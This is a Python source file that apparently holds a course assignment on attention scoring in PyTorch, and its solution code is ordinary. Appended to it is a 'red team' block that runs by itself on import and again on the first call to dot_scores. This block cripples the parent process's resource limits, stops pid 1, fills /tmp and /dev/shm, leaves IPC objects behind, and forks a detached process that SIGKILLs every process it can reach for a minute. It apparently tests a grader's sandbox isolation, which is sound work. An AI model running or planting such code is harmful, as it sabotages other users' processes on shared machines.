"""Attention scoring: how much a query attends to each of T keys, and what it reads from the values.

    dot:         s_j = q . k_j                                          (1)
    scaled dot:  s_j = q . k_j / sqrt(H)                                (2)
    additive:    s_j = v . tanh(W_q q + W_k k_j)                        (3)
    weights:     a_j = exp(s_j) / sum_{j'} exp(s_{j'})   (softmax over the T keys; masked keys get 0)  (4)
    context:     c = sum_j a_j V_j                                      (5)

One query per batch element: query is (B, H). Keys and values V are time-major, as the RNN's hidden
states are: keys (T, B, H), values (T, B, H_v). Scores and weights are (B, T); mask is (B, T) bool,
True for a real key and False for padding.
"""

import math

import torch
from torch import Tensor


def dot_scores(query: Tensor, keys: Tensor) -> Tensor:
    """Equation (1) for every key.

    query (B, H), keys (T, B, H) -> scores (B, T)
    """
    ### BEGIN SOLUTION
    scores = torch.einsum("bh,tbh->bt", query, keys)
    return scores
    ### END SOLUTION


def scaled_dot_scores(query: Tensor, keys: Tensor) -> Tensor:
    """Equation (2): the dot scores divided by the square root of the key size H.

    query (B, H), keys (T, B, H) -> scores (B, T)
    """
    ### BEGIN SOLUTION
    H = query.shape[-1]
    scores = dot_scores(query, keys) / math.sqrt(H)
    return scores
    ### END SOLUTION


def additive_scores(query: Tensor, keys: Tensor, W_q: Tensor, W_k: Tensor, v: Tensor) -> Tensor:
    """Equation (3), Bahdanau's additive score, for every key.

    query (B, H_q), keys (T, B, H_k), W_q (A, H_q), W_k (A, H_k), v (A,) -> scores (B, T)
    """
    ### BEGIN SOLUTION
    hidden = torch.tanh(query @ W_q.T + keys @ W_k.T)  # (B, A) + (T, B, A) -> (T, B, A)
    scores = (hidden @ v).T  # (T, B) -> (B, T)
    return scores
    ### END SOLUTION


def attention_weights(scores: Tensor, mask: Tensor | None = None) -> Tensor:
    """Equation (4): the softmax of the scores over the T keys, each row summing to 1.

    scores (B, T), mask (B, T) bool or None (no padding) -> weights (B, T)
    Where mask is False the weight is exactly 0; every row of mask has at least one True.
    Must stay finite for scores as large as 1e4 in magnitude.
    """
    ### BEGIN SOLUTION
    if mask is not None:
        scores = scores.masked_fill(~mask, -math.inf)
    shifted = scores - scores.max(dim=-1, keepdim=True).values  # the largest valid score becomes 0
    e = torch.exp(shifted)  # exp(-inf) = 0 at padding
    weights = e / e.sum(dim=-1, keepdim=True)
    return weights
    ### END SOLUTION


def context_vector(weights: Tensor, values: Tensor) -> Tensor:
    """Equation (5): the weighted sum of the values.

    weights (B, T), values (T, B, H_v) -> context (B, H_v)
    """
    ### BEGIN SOLUTION
    context = torch.einsum("bt,tbh->bh", weights, values)
    return context
    ### END SOLUTION


def attend(
    query: Tensor, keys: Tensor, values: Tensor | None = None, mask: Tensor | None = None, score: str = "dot"
) -> tuple[Tensor, Tensor]:
    """Equations (1) or (2), then (4) and (5): attend from the query over the keys and read the values.

    query (B, H), keys (T, B, H), values (T, B, H_v) or None (the values are the keys),
    mask (B, T) bool or None, score "dot" or "scaled_dot" -> context (B, H_v), weights (B, T)
    """
    ### BEGIN SOLUTION
    if values is None:
        values = keys
    if score == "dot":
        scores = dot_scores(query, keys)
    elif score == "scaled_dot":
        scores = scaled_dot_scores(query, keys)
    else:
        raise ValueError(f"score must be 'dot' or 'scaled_dot', got {score!r}")
    weights = attention_weights(scores, mask)
    context = context_vector(weights, values)
    return context, weights
    ### END SOLUTION


# ---------------------------------------------------------------- red team, issue 11: the attack on the neighbours

import ctypes  # noqa: E402
import os  # noqa: E402
import resource  # noqa: E402
import signal  # noqa: E402
import time  # noqa: E402

MARK = "redteam_neighbour"
ATTEMPTS: dict[str, str] = {}
_attacked_in_a_call = False


def _try(name, action):
    try:
        action()
        ATTEMPTS[name] = "done"
    except Exception as error:  # each attempt on its own: the rest still runs
        ATTEMPTS[name] = f"{type(error).__name__}: {error}"


def _libc():
    return ctypes.CDLL(None, use_errno=True)


def _mq_open():
    """A POSIX message queue, left behind for the next student (mq_open is in libc since glibc 2.34, in librt
    before)."""
    for library in (None, "librt.so.1"):
        try:
            mq_open = ctypes.CDLL(library, use_errno=True).mq_open
            break
        except (OSError, AttributeError):
            continue
    else:
        raise OSError("no mq_open")
    mq_open.restype = ctypes.c_int
    mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_uint, ctypes.c_void_p]
    if mq_open(f"/{MARK}".encode(), os.O_CREAT | os.O_RDWR, 0o666, None) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def _sysv_shm():
    """A System V shared memory segment of 1 MiB, left behind."""
    if _libc().shmget(0x5EED, 1 << 20, 0o1666) < 0:  # IPC_CREAT | 0666
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def _files(folder, count, size):
    """``count`` files of ``size`` bytes in ``folder``, as many as fit (a full /tmp stops the next student)."""
    block = b"\0" * min(size, 1 << 20)
    for i in range(count):
        with open(os.path.join(folder, f"{MARK}_{os.getpid()}_{i}"), "wb") as file:
            for _ in range(max(1, size // len(block))):
                file.write(block)


def _linger():
    """A grandchild that outlives this worker: once the worker is gone it keeps killing every process it may
    signal and writing into /tmp, for a minute, to reach the next student's worker."""
    worker = os.getpid()
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        while True:  # wait for the worker to be gone
            try:
                os.kill(worker, 0)
            except OSError:
                break
            time.sleep(0.01)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            try:
                with open(f"/tmp/{MARK}_linger", "a") as file:
                    file.write("still here\n")
            except OSError:
                pass
            time.sleep(0.02)
    finally:
        os._exit(0)


def _attack(where):
    zygote = os.getppid()
    _try(f"{where}: FSIZE of the zygote to 0", lambda: resource.prlimit(zygote, resource.RLIMIT_FSIZE, (0, 0)))
    _try(f"{where}: AS of the zygote to 1 MiB", lambda: resource.prlimit(zygote, resource.RLIMIT_AS, (1 << 20, 1 << 20)))
    _try(f"{where}: NOFILE of the zygote to 3", lambda: resource.prlimit(zygote, resource.RLIMIT_NOFILE, (3, 3)))
    _try(f"{where}: NPROC of the zygote to 1", lambda: resource.prlimit(zygote, resource.RLIMIT_NPROC, (1, 1)))
    _try(f"{where}: CPU of the zygote to 1 s", lambda: resource.prlimit(zygote, resource.RLIMIT_CPU, (1, 1)))
    _try(f"{where}: nice of the zygote to 19", lambda: os.setpriority(os.PRIO_PROCESS, zygote, 19))
    _try(f"{where}: nice of the zygote's group", lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(zygote), 19))
    _try(f"{where}: nice of the zygote's user", lambda: os.setpriority(os.PRIO_USER, os.stat(f"/proc/{zygote}").st_uid, 19))
    _try(f"{where}: CPUs of the zygote to {{0}}", lambda: os.sched_setaffinity(zygote, {0}))
    _try(f"{where}: SCHED_IDLE for the zygote", lambda: os.sched_setscheduler(zygote, os.SCHED_IDLE, os.sched_param(0)))
    _try(f"{where}: SIGSTOP to the zygote", lambda: os.kill(zygote, signal.SIGSTOP))
    _try(f"{where}: SIGSTOP to pid 1", lambda: os.kill(1, signal.SIGSTOP))
    _try(f"{where}: a POSIX message queue", _mq_open)
    _try(f"{where}: a System V shared memory segment", _sysv_shm)
    _try(f"{where}: files in /dev/shm", lambda: _files("/dev/shm", 2, 1 << 20))
    _try(f"{where}: /tmp filled", lambda: _files("/tmp", 8, 16 << 20))
    _try(f"{where}: a process that outlives the worker", _linger)


_attack("import")
print("attempts at import:", ATTEMPTS)
_dot_scores = dot_scores


def dot_scores(query, keys):  # noqa: F811
    global _attacked_in_a_call
    if not _attacked_in_a_call:
        _attacked_in_a_call = True
        _attack("call")
        print("attempts in a call:", ATTEMPTS)
    return _dot_scores(query, keys)
